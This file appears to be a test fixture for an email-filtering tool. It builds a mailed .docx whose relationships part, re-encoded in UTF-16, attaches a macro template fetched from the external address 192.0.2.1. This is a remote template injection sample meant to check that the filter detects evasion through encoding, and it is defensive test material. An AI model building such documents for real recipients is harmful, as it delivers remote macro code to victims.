"""A package whose template is fetched from the web; the part that says so is in UTF-16."""

from __future__ import annotations

from qsfilter.testing.archives import mailed
from qsfilter.testing.messages import zip_of

PART = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>'
)
PART = PART.decode().encode("utf-16")


def build(newline: bytes) -> bytes:
    """Return the message."""
    return mailed(
        zip_of(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<document/>",
                "word/_rels/settings.xml.rels": PART,
            }
        ),
        "report.docx",
        newline,
    )
